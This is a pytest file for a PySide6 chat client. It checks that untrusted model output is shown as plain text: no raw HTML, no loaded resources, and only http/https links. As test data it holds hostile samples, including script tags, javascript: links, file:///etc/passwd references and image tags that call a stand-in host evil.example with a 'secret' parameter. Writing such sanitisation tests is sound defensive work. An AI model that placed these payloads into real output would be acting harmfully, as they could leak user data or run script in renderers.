"""Model output is untrusted: no raw HTML, no resource is ever loaded, links only on
click and only http/https."""

from __future__ import annotations

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices, QTextDocument
from pytestqt.qtbot import QtBot

from chatlab.demo.scripts import Script
from chatlab.demo.server import DemoServer
from chatlab.ui.lab.window import MainWindow
from chatlab.ui.shared.codeblocks import code_frames, copy_url
from chatlab.ui.shared.safe import ResourceLog, SafeBrowser, SafeDocument, link_is_safe
from chatlab.ui.shared.text import AnswerView
from chatlab.ui.shared.textprops import CODE_ID_PROPERTY
from tests.ui.conftest import add_lanes, wait_turn

HOSTILE = (
    'Hello <b>raw</b> <script>alert(1)</script> <img src="http://evil.example/raw.png">\n\n'
    "![pixel](http://evil.example/track.png?secret=1) ![local](file:///etc/passwd)\n\n"
    "[a link](https://example.org/) and [bad](javascript:alert(1))\n\n"
    "```python\nprint('<i>not html</i>')\n```\n"
)


def test_loaders_refuse_everything(qtbot: QtBot) -> None:
    before = len(ResourceLog.requests)
    for url in ("http://evil.example/x.png", "https://evil.example/y", "file:///etc/passwd", "data:,x"):
        assert SafeBrowser().loadResource(int(QTextDocument.ResourceType.ImageResource), QUrl(url)) is None
        assert SafeDocument().loadResource(int(QTextDocument.ResourceType.ImageResource), QUrl(url)) is None
    assert len(ResourceLog.requests) == before + 8


def test_hostile_answer_renders_safely(
    window: MainWindow,
    qtbot: QtBot,
    server: DemoServer,
) -> None:
    server.add("hostile", Script(answer=HOSTILE))
    [lane] = add_lanes(window, "chat:hostile")
    window.prompt.setPlainText("hi")
    before = len(ResourceLog.requests)
    wait_turn(qtbot, window)
    view = window.lane_widgets[lane.id].answer
    view.grab()  # force layout and painting, when images would be fetched
    html = view.toHtml()
    text = view.toPlainText()
    assert "<b>raw</b>" in text and "<script>" in text  # shown as text, not markup
    assert "<img" not in html and "<script" not in html.replace("&lt;script", "")
    assert "image: pixel" in text and "image: local" in text  # images became plain links
    assert ResourceLog.requests[before:] == []  # nothing was even requested


def test_only_http_links_open() -> None:
    assert link_is_safe(QUrl("https://example.org/x")) and link_is_safe(QUrl("http://example.org"))
    for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "ftp://example.org/"):
        assert not link_is_safe(QUrl(url))


def test_refused_link_click_is_reported(qtbot: QtBot) -> None:
    view = AnswerView()
    qtbot.addWidget(view)
    with qtbot.waitSignal(view.linkRefused) as blocker:
        view.anchorClicked.emit(QUrl("file:///etc/passwd"))
    assert blocker.args == ["file:///etc/passwd"]


HOSTILE_STYLED = (
    '> <img src="http://evil.example/quote.png"> quoted <b>raw</b>\n\n'
    '| <img src="http://evil.example/cell.png"> | <b>b</b> |\n|---|---|\n| <script>x</script> | 2 |\n\n'
    '```html\n<img src="http://evil.example/code.png">\n```\n\n'
    "[copy me](chatlab-copy:1)\n"
)


def test_styled_markdown_stays_safe(
    window: MainWindow,
    qtbot: QtBot,
    server: DemoServer,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Quotes, tables and code blocks are styled, yet their raw HTML is still text, nothing
    is loaded, and neither a code block's copy link nor one the model wrote opens anything."""
    opened: list[str] = []

    def open_url(url: QUrl) -> bool:
        opened.append(url.toString())
        return True

    monkeypatch.setattr(QDesktopServices, "openUrl", open_url)
    server.add("styled", Script(answer=HOSTILE_STYLED))
    [lane] = add_lanes(window, "chat:styled")
    window.prompt.setPlainText("hi")
    before = len(ResourceLog.requests)
    wait_turn(qtbot, window)
    view = window.lane_widgets[lane.id].answer
    qtbot.waitUntil(lambda: not view.colourer.busy(), timeout=30_000)
    view.grab()
    text = view.toPlainText()
    for raw in ('<img src="http://evil.example/quote.png">', "<b>raw</b>", "<script>x</script>", "<b>b</b>"):
        assert raw in text
    assert '<img src="http://evil.example/code.png">' in text
    assert "<img" not in view.toHtml().replace("&lt;img", "")
    assert ResourceLog.requests[before:] == []
    [frame] = code_frames(view.document())
    with qtbot.waitSignal(view.linkRefused):
        view.anchorClicked.emit(QUrl("chatlab-copy:1"))  # the model's: not a copy link
    with qtbot.waitSignal(view.codeCopied) as copied:
        view.anchorClicked.emit(QUrl(copy_url(frame.frameFormat().intProperty(CODE_ID_PROPERTY))))
    assert copied.args == ['<img src="http://evil.example/code.png">']
    assert opened == [] and ResourceLog.requests[before:] == []
